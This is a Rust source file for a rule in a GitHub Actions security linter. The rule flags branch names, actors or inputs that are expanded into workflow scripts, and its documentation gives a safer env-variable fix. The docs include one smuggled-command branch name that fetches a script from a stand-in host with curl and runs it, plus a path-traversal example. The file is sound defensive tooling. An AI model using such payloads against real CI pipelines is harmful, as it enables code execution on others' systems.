//! `gha-template-injection-partly-controlled`: a branch or tag name, an actor or an input expanded
//! by `${{ }}` into a script.

use super::{Control, GhaRule, GhaSink, report_injections};
use crate::finding::Severity;
use crate::parse::workflow::GhaFile;
use crate::rules::RuleMeta;

pub struct Rule;
pub static RULE: Rule = Rule;

static META: RuleMeta = RuleMeta {
    id: "gha-template-injection-partly-controlled",
    summary: "A partly controlled value (branch name, actor, input) is expanded into a script",
    severity: Severity::Medium,
    help: "pass the value through `env:` and quote the variable: `env: REF: ${{ github.ref_name }}` then `\"$REF\"`",
    docs: r#"## What it finds

A `${{ … }}` in a `run:` or `actions/github-script` script that reads a value a contributor chooses within limits: `github.ref_name`, `github.ref`, `github.base_ref`, `github.actor`, workflow and action `inputs.*`, tag names and other webhook fields that are not plain numbers or SHAs. In an `action.yml`, `inputs.*` are whatever the calling workflow passes — often a PR title.

## Why it matters

Branch and tag names may contain `$(…)`, backticks, `;` and quotes (`a$(curl${IFS}evil.sh|sh)`); anyone who can push a branch — or open a pull request whose branch name flows into a push workflow later — can run commands. The platform strategy's `cd terraform/environments/${{ github.ref_name }}` is this pattern: it also lets a branch named `../../x` choose the directory.

## How to fix

```yaml
- env:
    ENVIRONMENT: ${{ github.ref_name }}
  run: |
    case "$ENVIRONMENT" in main|staging) ;; *) exit 1 ;; esac
    cd "terraform/environments/$ENVIRONMENT"
```
"#,
    references: &[
        "GitHub Docs: Security hardening — Understanding the risk of script injections",
        "zizmor: template-injection",
        "CodeQL: actions/code-injection/medium",
    ],
    tags: &["security", "injection", "github-actions"],
    default_enabled: true,
};

impl GhaRule for Rule {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, w: &GhaFile, sink: &mut GhaSink<'_>) {
        report_injections(w, sink, Control::Partly, "(a branch, tag, actor or input a contributor chooses)");
    }
}
